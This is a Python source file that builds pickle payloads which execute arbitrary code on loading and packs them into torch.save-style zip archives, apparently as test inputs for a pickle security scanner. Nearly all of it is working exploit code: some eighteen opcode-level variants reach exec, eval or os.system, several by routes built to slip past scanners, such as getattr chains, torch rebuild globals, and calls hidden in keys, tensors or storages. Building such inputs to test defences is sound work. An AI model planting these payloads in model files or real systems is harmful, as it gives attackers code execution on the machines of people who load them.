"""Pickles that run code when a pickle machine loads them, and a file of torch.save to put them in."""

from __future__ import annotations

import struct
import zipfile
from pathlib import Path


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def attacks(code: str) -> dict[str, bytes]:
    """Return the bodies of pickles that run the Python `code` when a pickle machine loads them."""
    shell = f"python3 -c {code!r}"
    run, one = b"cbuiltins\nexec\n", text(code) + b"\x85"
    storage = text("storage") + b"ctorch\nFloatStorage\n" + text("0") + text("cpu")
    return {
        "reduce": run + one + b"R",
        "reduce system": b"cposix\nsystem\n" + text(shell) + b"\x85R",
        "eval": b"cbuiltins\neval\n" + text(f"exec({code!r})") + b"\x85R",
        "stack global": text("builtins") + text("exec") + b"\x93" + one + b"R",
        "inst": b"(" + text(code) + b"ibuiltins\nexec\n",
        "obj": b"(" + b"cbuiltins\nexec\n" + text(code) + b"o",
        "newobj": b"cfunctools\npartial\n" + b"(" + run + text(code) + b"t\x81)R",
        "newobj ex": b"cfunctools\npartial\n" + b"(" + run + text(code) + b"t}\x92)R",
        "state": b"ccollections\nOrderedDict\n)R}" + run + one + b"Rsb",
        "setstate": b"cbuiltins\ntype\n(" + text("T") + b")}" + text("__setstate__") + run + b"stR)R"
        + text(code) + b"b",
        "getattr": b"cbuiltins\ngetattr\n(cbuiltins\ngetattr\n(cos\npath\n" + text("os") + b"tR" + text("system")
        + b"tR" + text(shell) + b"\x85R",
        "rebuild's globals": b"coperator\ngetitem\n(cbuiltins\ngetattr\n(ctorch._utils\n_rebuild_tensor_v2\n"
        + text("__globals__") + b"tR" + text("__builtins__") + b"tRq\x000coperator\ngetitem\n(h\x00"
        + text("exec") + b"tR" + one + b"R",
        "in a key": b"}" + run + one + b"R" + text("value") + b"s",
        "in a tensor": b"}" + text("weight") + b"ctorch._utils\n_rebuild_tensor_v2\n(" + run + one + b"R"
        + b"K\x00)))\x89}tRs",
        "in a storage": b"(" + storage + run + one + b"RtQ",
        "a storage's type": b"(" + text("storage") + run + one + b"R" + text("0") + text("cpu") + b"K\x01tQ",
        "deep": b"](((" + run + one + b"Rlllae",
        "map": b"cbuiltins\nlist\ncbuiltins\nmap\n" + run + b"]" + text(code) + b"a\x86R\x85R",
    }  # fmt: skip


NAMES = list(attacks(""))


def zipped(path: Path, pickled: bytes) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("file/data.pkl", pickled)
        archive.writestr("file/data/0", b"\0" * 64)
    return path
